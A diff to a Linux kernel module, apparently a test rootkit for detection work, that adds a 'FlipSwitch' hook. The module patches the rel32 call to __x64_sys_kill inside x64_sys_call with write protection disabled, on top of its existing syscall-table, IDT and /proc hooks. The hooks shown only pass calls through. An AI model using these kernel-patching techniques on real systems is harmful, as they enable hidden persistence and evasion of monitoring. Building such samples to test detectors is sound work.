@@ -6,6 +6,8 @@
  * It does what Diamorphine and its kin do, with pass-through hooks so the
  * guest keeps working:
  *   - replaces sys_call_table[__NR_kill] with its own function   (701)
+ *   - redirects the call to __x64_sys_kill inside x64_sys_call, the
+ *     dispatch code of Linux >= 6.9 and its backports ("FlipSwitch") (701)
  *   - replaces the handler of interrupt vector 4 (#OF, which 64-bit code
  *     cannot raise) in idt_table                                   (703)
  *   - replaces iterate_shared of /proc's root file_operations       (700)
@@ -40,7 +42,16 @@ static unsigned long idt;
 module_param(idt, ulong, 0400);
 MODULE_PARM_DESC(idt, "address of idt_table");
 
+static unsigned long x64call;
+module_param(x64call, ulong, 0400);
+MODULE_PARM_DESC(x64call, "address of x64_sys_call (optional)");
+static unsigned long sysk;
+module_param(sysk, ulong, 0400);
+MODULE_PARM_DESC(sysk, "address of __x64_sys_kill (optional)");
+
 #define RK_VECTOR 4
+/* How far into x64_sys_call to look for the call to patch. */
+#define RK_DISPATCH_MAX 16384
 #define RK_FTRACE_FN "do_sys_openat2"
 
 typedef long (*syscall_fn)(const struct pt_regs *);
@@ -70,6 +81,38 @@ static inline void rk_cr0(unsigned long v)
 static long rk_kill(const struct pt_regs *regs)
 {
 	return orig_kill(regs);
+}
+
+static long rk_flip_kill(const struct pt_regs *regs)
+{
+	return ((syscall_fn)sysk)(regs);
+}
+
+/* Finds the call or jmp rel32 to __x64_sys_kill in x64_sys_call and points
+ * it at rk_flip_kill. Returns 0, or -ENOENT when no such site exists. */
+static int rk_flipswitch(void)
+{
+	u8 *p = (u8 *)x64call;
+	int i;
+
+	for (i = 0; i < RK_DISPATCH_MAX - 5; i++) {
+		s32 rel;
+		s64 nrel;
+
+		if (p[i] != 0xe8 && p[i] != 0xe9)
+			continue;
+		memcpy(&rel, p + i + 1, 4);
+		if ((unsigned long)(p + i + 5) + (long)rel != sysk)
+			continue;
+		nrel = (long)rk_flip_kill - (long)(p + i + 5);
+		if (nrel != (s32)nrel)
+			return -ERANGE;
+		rel = (s32)nrel;
+		WITH_WP_OFF(memcpy(p + i + 1, &rel, 4));
+		pr_info("kestrel_rk: x64_sys_call+%#x now calls rk_flip_kill\n", i);
+		return 0;
+	}
+	return -ENOENT;
 }
 
 static int rk_proc_iterate(struct file *file, struct dir_context *ctx)
@@ -127,6 +170,13 @@ static int __init rk_init(void)
 	/* 701: the syscall table. */
 	orig_kill = (syscall_fn)table[__NR_kill];
 	WITH_WP_OFF(table[__NR_kill] = (sys_call_ptr_t)rk_kill);
+
+	/* 701 again, for kernels that dispatch through x64_sys_call. */
+	if (x64call && sysk) {
+		err = rk_flipswitch();
+		if (err)
+			pr_warn("kestrel_rk: x64_sys_call not patched (%d)\n", err);
+	}
 
 	/* 703: one interrupt gate; the cpu_entry_area maps the same page. */
 	g = gates[RK_VECTOR];
